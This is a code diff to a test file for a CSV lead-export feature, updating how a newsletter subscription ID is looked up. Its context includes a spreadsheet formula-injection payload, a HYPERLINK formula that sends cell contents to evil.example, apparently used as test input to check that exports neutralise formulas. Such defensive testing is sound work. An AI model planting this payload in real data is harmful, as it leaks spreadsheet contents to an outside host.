@@ -14,7 +14,7 @@ import { solvedCaptcha } from '../test/altcha.js';
 import { buildTestApi, type TestApi } from '../test/api.js';
 import { createTestDataDir, TEST_DRIVER } from '../test/database.js';
 import { parseCsvRecords } from '../test/parse-csv.js';
-import { quoteRequest } from '../test/submissions.js';
+import { newsletterSubscriptionId, quoteRequest } from '../test/submissions.js';
 import { writeLeadsCsv } from './csv.js';
 
 const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
@@ -84,7 +84,8 @@ describe('the lead export on submissions stored through the API', () => {
       subject: '-Rates for Pune',
       message: 'Part load, weekly.',
     });
-    ids.newsletter = await store('/api/store/newsletter', { email: 'reader@example.in' });
+    await store('/api/store/newsletter', { email: 'reader@example.in' });
+    ids.newsletter = await newsletterSubscriptionId(api.database.db, 'reader@example.in');
     ids.quote = await store('/api/store/quote', quoteRequest({ service: 'Warehousing' }));
 
     // The last moment of 14 January and the first of 15 January 2026 in India (UTC+05:30).
